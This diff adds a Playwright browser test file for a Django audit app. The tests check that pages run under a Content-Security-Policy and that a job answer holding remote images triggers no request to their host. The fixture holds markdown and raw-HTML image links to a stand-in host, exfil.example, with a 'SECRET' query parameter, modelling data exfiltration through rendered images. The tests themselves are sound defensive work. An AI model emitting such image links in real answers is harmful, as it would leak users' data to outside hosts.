@@ -1,0 +1,110 @@
+"""In Debian's Chromium: pages work under the Content-Security-Policy without one violation, and a job page
+whose answer holds a remote image sends no request to that image's host."""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Iterator
+
+import pytest
+from django.contrib.auth.models import User
+from playwright.sync_api import Browser, ConsoleMessage, Page, Request, sync_playwright
+
+from audit_app.models import Job, Team
+from audit_app.services.submission import submit_job
+from tests.service.conftest import make_user
+from tests.service.test_web import finished_job
+
+pytestmark = pytest.mark.django_db(transaction=True)
+CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
+ARGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+        "--disable-background-networking", "--disable-component-update", "--disable-sync"]  # fmt: skip
+HOSTILE_ANSWER = """Yes. ![chart](http://exfil.example/c.png?d=SECRET)
+
+![ref][r] <http://exfil.example/auto> [statute](http://exfil.example/law) <img src="http://exfil.example/raw.png">
+
+[r]: http://exfil.example/ref.png
+"""
+
+
+class Watched:
+    """A page with every request URL and every console message it produced."""
+
+    def __init__(self, page: Page) -> None:
+        self.page, self.requests, self.console = page, list[str](), list[str]()
+        page.on("request", lambda request: self.requests.append(request_url(request)))
+        page.on("console", lambda message: self.console.append(console_text(message)))
+        page.on("pageerror", lambda error: self.console.append(f"page error: {error}"))
+
+    def csp_violations(self) -> list[str]:
+        return [text for text in self.console if "Content Security Policy" in text or "page error" in text]
+
+
+def request_url(request: Request) -> str:
+    return request.url
+
+
+def console_text(message: ConsoleMessage) -> str:
+    return f"{message.type}: {message.text}"
+
+
+@pytest.fixture
+def browser(monkeypatch: pytest.MonkeyPatch) -> Iterator[Browser]:
+    # Playwright's sync API keeps an event loop on this thread; the test's own ORM calls stay synchronous.
+    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        yield launched
+        launched.close()
+
+
+def logged_in(browser: Browser, base_url: str, username: str) -> Watched:
+    watched = Watched(browser.new_page())
+    watched.page.goto(f"{base_url}/login/")
+    watched.page.fill("#id_username", username)
+    watched.page.fill("#id_password", "pw-" + username)
+    watched.page.click("button[type=submit]")
+    watched.page.wait_for_url(f"{base_url}/")
+    return watched
+
+
+def test_a_remote_image_in_an_answer_is_never_requested(live_server, browser: Browser, analyst: User, team: Team):
+    job = finished_job(analyst, team, HOSTILE_ANSWER)
+    watched = logged_in(browser, live_server.url, "alice")
+    watched.page.goto(f"{live_server.url}/jobs/{job.pk}/")
+    watched.page.wait_for_load_state("networkidle")
+    answer = watched.page.locator(".answer").inner_text()
+    assert "[image: chart — http://exfil.example/c.png?d=SECRET]" in answer
+    assert '<img src="http://exfil.example/raw.png">' in answer  # raw HTML is shown as text
+    assert [url for url in watched.requests if "exfil.example" in url] == []
+    assert all(url.startswith(live_server.url) for url in watched.requests)
+    assert watched.csp_violations() == []
+
+
+def test_htmx_polls_and_reloads_under_the_policy(live_server, browser: Browser, analyst: User, team: Team):
+    job = submit_job(analyst, team, "C-1", "legal", "Queued while we watch?")
+    watched = logged_in(browser, live_server.url, "alice")
+    watched.page.goto(f"{live_server.url}/jobs/{job.pk}/")
+    with watched.page.expect_request(f"**/jobs/{job.pk}/live/"):  # htmx runs and polls
+        pass
+    Job.objects.filter(pk=job.pk).update(status=Job.CANCELLED)
+    watched.page.get_by_text("No run was recorded").wait_for(timeout=15_000)  # HX-Refresh reloaded the page
+    watched.page.goto(f"{live_server.url}/jobs/new/")
+    watched.page.goto(f"{live_server.url}/")
+    assert watched.page.locator("style").count() == 0  # htmx added no indicator style
+    assert watched.csp_violations() == []
+
+
+def test_auditor_and_operator_pages_work_under_the_policy(live_server, browser: Browser, db):
+    make_user("audrey", "auditor", None)
+    make_user("oscar", "operator", None)
+    auditor = logged_in(browser, live_server.url, "audrey")
+    auditor.page.goto(f"{live_server.url}/auditor/ledger/")
+    auditor.page.click("button:has-text('Verify the whole ledger now')")
+    auditor.page.get_by_text("Ledger verified").wait_for()
+    operator = logged_in(browser, live_server.url, "oscar")
+    operator.page.goto(f"{live_server.url}/operator/kill-switch/")
+    operator.page.fill("#id_reason", "Drill")
+    operator.page.click("button:has-text('Suspend inference')")
+    operator.page.get_by_text("Inference is suspended since").wait_for()
+    assert auditor.csp_violations() == operator.csp_violations() == []
